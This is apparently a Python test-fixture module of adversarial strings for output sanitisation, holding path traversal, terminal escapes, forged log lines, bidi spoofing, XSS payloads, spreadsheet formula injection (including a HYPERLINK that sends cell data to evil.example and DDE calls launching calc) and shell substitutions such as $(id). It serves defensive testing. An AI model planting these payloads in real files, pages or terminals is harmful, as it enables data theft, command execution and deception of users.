"""Texts that do harm where they are believed: in terminals, files, tables, pages and logs."""

from __future__ import annotations

import re

ESCAPES = (
    "\x1b[2J\x1b[31mred\x9b1mbold\x1b]0;title\x07\x1b]8;;http://evil.example\x07here\x1b]8;;\x07"
)
FORGED = "all is well\r\nerror: forged line\n2026-01-01T00:00:00Z [error    ] forged_event"

TEXTS: dict[str, str] = {
    "path": "../../../etc/passwd\\..\\..\\windows/system32",
    "controls": "a\x00b\x07c\x08d\x0be\x7ff\x85g\x9fh",
    "escapes": ESCAPES,
    "forged lines": FORGED,
    "bidi": "photo\u202egpj.exe\u202c \u2066left\u2067right\u2068first\u2069 \u200e\u200f\u061c",
    "zero width": "ad\u200bmin\u2060is\ufefftra\u00adtor\u180e",
    "tags": "flag\U000e0067\U000e0062\U000e007f hidden",
    "html": "</title></script><script>alert(1)</script><img src=x onerror=alert(1)>'\"&lt;",
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "wide formula": "\uff1d1+1",
    "combining": "Z" + "\u0301\u0316\u0489" * 400 + "algo",
    "surrogates": "half \ud83d and \udc00 other half",
    "markup": "[bold red]not red[/] [link=http://evil.example]x[/link] [/]",
    "format": "%s%n%x {0} {__class__} ${HOME} $(id) `id` {{7*7}}",
    "noncharacters": "x\ufffe\uffff\U0010ffff\ufdd0",
    "long name": "w" * 5000,
    "many words": "word " * 4000,
}
"""By the harm they mean to do."""

EMOJI = "👩🏽‍👩🏽‍👧🏽‍👦🏽" * 250_000
"""Ten megabytes."""

HARMFUL = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2069\ufeff"
    "\ud800-\udfff\U000e0000-\U000e0fff]"
)
"""What no output for people may hold, line feeds and tabs apart."""


def harm_in(text: str) -> str:
    """Return the first harmful character of ``text`` with its surroundings, or nothing."""
    found = HARMFUL.search(text)
    return ascii(text[max(0, found.start() - 40) : found.end() + 40]) if found else ""
